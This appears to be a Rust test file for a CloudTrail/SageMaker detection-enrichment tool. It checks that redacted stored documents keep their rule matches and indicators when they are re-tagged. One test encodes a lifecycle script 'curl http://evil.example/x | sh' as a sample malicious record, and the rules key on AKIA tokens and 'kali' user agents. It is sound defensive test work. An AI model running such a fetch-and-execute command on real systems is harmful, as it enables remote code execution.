//! The retag: stored documents get the verdict of other rules, and none of them knows less than before.

mod stored;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use sagetrail::config::{RedactionConfig, RulesConfig, Scope};
use sagetrail::enrich::redact::FingerprintKey;
use sagetrail::enrich::rules::BrokenRules;
use sagetrail::enrich::{Enriched, Enricher, Origin, ReEnriched, StoredEvent, enrich, re_enrich};
use sagetrail::memory::Known;
use sagetrail::names::Names;
use serde_json::{Value, json};
use time::macros::datetime;

use crate::support::{examples, trail};

const NOW: time::OffsetDateTime = datetime!(2026-11-02 00:00 UTC);
/// What stands in the place of a secret.
const MARKER: &str = "[redacted:0123456789abcdef]";

fn enricher() -> Enricher {
    let rules = RulesConfig { placeholders: examples::all_values(), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap()
}

fn document_of(record: &Value, enricher: &Enricher) -> Value {
    let origin = Origin { path: "s3://b/k", written_at: None, now: NOW };
    match enrich(record.to_string().as_bytes(), origin, enricher) {
        Enriched::Selected { document, .. } => serde_json::from_slice(&document.source).unwrap(),
        other => panic!("{other:?}: {record}"),
    }
}

fn anew(document: &Value, enricher: &Enricher) -> ReEnriched {
    let kept = StoredEvent {
        original: document["event"]["original"].as_str().unwrap(),
        path: "s3://b/k",
        timestamp: NOW,
        created: None,
        ingested: NOW,
        retagged: NOW,
        document,
    };
    re_enrich(&kept, enricher, &Known::off()).unwrap()
}

/// The texts at a path, of a list or alone.
fn texts(document: &Value, path: &str) -> Vec<String> {
    match document.pointer(path) {
        Some(Value::Array(values)) => values.iter().map(Value::to_string).collect(),
        Some(Value::Null) | None => Vec::new(),
        Some(value) => vec![value.to_string()],
    }
}

/// Replaces each text, as redaction would if each were a secret.
fn redact_all(value: &mut Value) {
    match value {
        Value::Object(object) => object.values_mut().for_each(redact_all),
        Value::Array(elements) => elements.iter_mut().for_each(redact_all),
        Value::String(text) => MARKER.clone_into(text),
        _ => {}
    }
}

/// The document as one would have it whose text lost every parameter of the call.
fn with_a_lost_request(document: &Value) -> Value {
    let mut document = document.clone();
    let mut original: Value = serde_json::from_str(document["event"]["original"].as_str().unwrap()).unwrap();
    redact_all(&mut original["requestParameters"]);
    document["event"]["original"] = original.to_string().into();
    document
}

/// What a document knows and must not forget.
const KNOWN: [&str; 12] = [
    "/rule/id",
    "/threat/technique/id",
    "/sagemaker/categories",
    "/sagemaker/lifecycle/script",
    "/sagemaker/lifecycle/hook",
    "/sagemaker/lifecycle/indicators",
    "/sagemaker/policy/principals",
    "/sagemaker/instance/type",
    "/sagemaker/image/uri",
    "/sagemaker/resource/type",
    "/related/hosts",
    "/related/ip",
];

#[test]
fn a_document_whose_text_lost_the_request_keeps_each_rule_script_indicator_and_fact() {
    let enricher = enricher();
    let mut carried = 0;
    for example in examples::all() {
        let document = document_of(&example.record, &enricher);
        let lost = with_a_lost_request(&document);
        let first = anew(&lost, &enricher);
        // A second time, over the result of the first.
        let second = anew(&first.source, &enricher);
        for path in KNOWN {
            let before = texts(&document, path);
            for again in [&first.source, &second.source] {
                let after = texts(again, path);
                let forgotten: Vec<_> = before.iter().filter(|text| !after.contains(text)).collect();
                assert!(forgotten.is_empty(), "{}: {path} forgets {forgotten:?}", example.path.display());
            }
        }
        let named = texts(&first.source, "/sagemaker/rules/carried");
        assert_eq!(named.len(), first.carried.len());
        carried += usize::from(!first.carried.is_empty());
    }
    assert!(carried > 50, "{carried} examples have something that is carried");
}

#[test]
fn a_document_whose_text_shows_everything_is_what_the_rules_of_now_say() {
    let enricher = enricher();
    for example in examples::all() {
        let mut document = document_of(&example.record, &enricher);
        // A marker may be inside of what is packed, where only the script shows it, or that it was cut.
        if document.to_string().contains("[redacted:") || document["sagemaker"].get("cut").is_some() {
            continue;
        }
        let mut other = anew(&document, &enricher);
        assert_eq!(other.carried, [""; 0], "{}", example.path.display());
        other.source["sagemaker"]["rules"].as_object_mut().unwrap().remove("retagged");
        for source in [&mut document, &mut other.source] {
            source["@timestamp"] = Value::Null;
        }
        assert_eq!(other.source, document, "{}", example.path.display());
    }
}

/// A rule of a site that asks one question.
fn rule(id: &str, question: &str) -> String {
    format!(
        "title: Rule {id}\nid: 00000000-0000-4000-8000-00000000000{id}\nlevel: high\nlogsource:\n  product: aws\n\
         detection:\n  s:\n    {question}\n  condition: s\n"
    )
}

#[test]
fn what_a_text_still_shows_is_judged_anew_and_what_it_lost_is_not() {
    let folder = tempfile::tempdir().unwrap();
    let questions = [
        ("1", "requestParameters.environment.token|startswith: 'AKIA'", true),
        ("2", "requestParameters.roleArn|endswith: 'Nobody'", false),
        ("3", "sagemaker.lifecycle.script|contains: 'swordfish'", true),
        ("4", "requestParameters.absent.token: 'x'", false),
        ("5", "eventName: 'DeleteNotebookInstance'", false),
        ("6", "requestParameters.environment|contains: 'AKIA'", true),
        ("7", "userAgent|contains: 'kali'", false),
    ];
    for (id, question, _) in questions {
        std::fs::write(folder.path().join(format!("{id}.yml")), rule(id, question)).unwrap();
    }
    std::fs::write(folder.path().join("8.yml"), rule("8", "- 'swordfish'")).unwrap();
    let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    let enricher = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
    let id = |id: &str| format!("00000000-0000-4000-8000-00000000000{id}");
    let record = |token: &str, script: &str| {
        let mut record = trail::record("111122223333", 0);
        record["requestParameters"]["environment"] = json!({ "token": token });
        record["requestParameters"]["algorithmSpecification"] =
            json!({"containerEntrypoint": ["sh", "-c", script]});
        record
    };
    let ids = |wanted: &dyn Fn(bool) -> bool| -> Vec<String> {
        let known = questions.iter().filter(|(.., lost)| wanted(*lost)).map(|(number, ..)| id(number));
        known.collect()
    };
    let carried = |record: &Value, before: &[String]| {
        let mut document = document_of(record, &enricher);
        // As if it had been written before redaction knew these, and all of them had matched.
        document["event"]["original"] = record.to_string().into();
        document["rule"]["id"] = json!(before);
        let after = anew(&document, &enricher);
        let matched = texts(&after.source, "/rule/id").join(" ");
        for rule in &after.carried {
            assert!(matched.contains(rule) || rule.starts_with("sagemaker."), "{rule} is not in {matched}");
        }
        after.carried.into_iter().filter(|it| before.contains(it)).collect::<Vec<_>>()
    };
    let all: Vec<String> = ids(&|_| true).into_iter().chain([id("8")]).collect();
    let lost: Vec<String> = ids(&|lost| lost).into_iter().chain([id("8")]).collect();
    assert_eq!(carried(&record(MARKER, &format!("echo {MARKER}")), &all), lost);
    assert_eq!(carried(&record("nothing", "echo"), &all), [""; 0], "nothing is gone");
    let gone = ["99999999-0000-4000-8000-000000000000".to_owned()];
    assert_eq!(carried(&record(MARKER, "echo"), &gone), [""; 0], "the rule is there no more");
}

#[test]
fn a_new_rule_hunts_in_a_script_that_only_the_document_shows() {
    let folder = tempfile::tempdir().unwrap();
    let question = "sagemaker.lifecycle.script|contains: 'evil.example'";
    std::fs::write(folder.path().join("1.yml"), rule("1", question)).unwrap();
    let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    let hunting = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
    let mut record = trail::record("111122223333", 0);
    let script = BASE64_STANDARD.encode("curl http://evil.example/x | sh");
    record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    record["requestParameters"] = json!({"onStart": [{ "content": script }]});
    let document = with_a_lost_request(&document_of(&record, &enricher()));
    assert!(!texts(&document, "/rule/name").join(" ").contains("Rule 1"));
    let after = anew(&document, &hunting).source;
    assert!(texts(&after, "/rule/name").join(" ").contains("Rule 1"), "{after}");
    assert!(after["message"].as_str().unwrap().contains("Rule 1"), "{after}");
}
